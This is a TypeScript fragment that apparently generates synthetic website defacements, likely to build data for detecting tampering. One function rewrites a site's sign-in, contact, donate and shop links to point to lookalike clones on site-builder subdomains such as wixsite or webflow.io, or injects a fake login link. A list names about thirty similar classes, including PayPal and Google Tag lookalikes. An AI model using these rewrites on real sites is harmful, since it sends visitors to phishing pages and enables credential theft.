const builderClone = fresh28("site's own sign-in, account, contact, donate or shop links sent to a copy of the site on a site-builder subdomain named after it (wixsite, webflow.io, squarespace, framer, weebly)", (page, rng) => {
  const b = bare(page)
  const n = `${b}${pick(rng, ["", "-official", "-online", "-secure", "support", `-${alnum(rng, 3)}`])}`
  const base = pick(rng, [
    `https://${n}.wixsite.com/${b}`, `https://${n}.webflow.io`, `https://${n}.squarespace.com`, `https://${n}.framer.website`, `https://${n}.weebly.com`,
    `https://sites.google.com/view/${n}`, `https://${n}.godaddysites.com`, `https://${n}.mystrikingly.com`, `https://${n}.carrd.co`
  ])
  const own = links(page).filter((a) => isOwn(page, a.attribs.href ?? ""))
  const pref = own.filter((a) => accountRe.test(a.attribs.href ?? "") || /(contact|donat|shop|store|boutique|tienda|winkel|loja|negozio|spende|don|pay|kontakt|contatt|contato|help|support)/i.test(`${a.attribs.href ?? ""} ${textOf(page, a)}`))
  const pool = pref.length > 0 ? pref : own.length > 0 ? own : links(page)
  const chosen = sample(rng, pool, between(rng, 1, Math.min(4, Math.max(1, pool.length))))
  const out = chosen.flatMap((a) => {
    const v = attrValue(page.html, a, "href")
    const u = resolve(page, a.attribs.href ?? "")
    return v === null ? [] : [replace(v, esc(`${base}${u === null || u.pathname === "/" ? "/" : u.pathname}${u?.search ?? ""}`))]
  })
  if (out.length > 0) return { splices: out }
  const [signIn] = siteOr(rng, page, signLabels)
  return splices(insert(top(page), `<p class="account-links"><a href="${esc(base)}/login">${esc(signIn)}</a></p>`))
})

/** Every fresh28 defacement class, in a fixed order. */
export const fresh28Defacements: ReadonlyArray<ChangeClass> = [
  combineSlip, assetPrefix, platformProject, fallbackHijack, legacyNomodule, forgottenSubdomain, moduleCdnLookalike, frameworkIsland,
  wpEmojiLoader, consentModeLoader, ipfsScript, builderCdnLookalike,
  googleTagLookalike, seoKitCounters, selfHostedStats, linkMonetizer, storefrontScriptTag,
  idpTenant, chatPrechat, payOrOkay, paypalLookalike, overlayCheckout, loyaltyLookalike, socialPluginRetarget, indieAuthMove,
  elementorPopup, elementorHtmlWidget, builderHiddenSpam, wixHtmlEmbed, webflowForm, builderClone
]
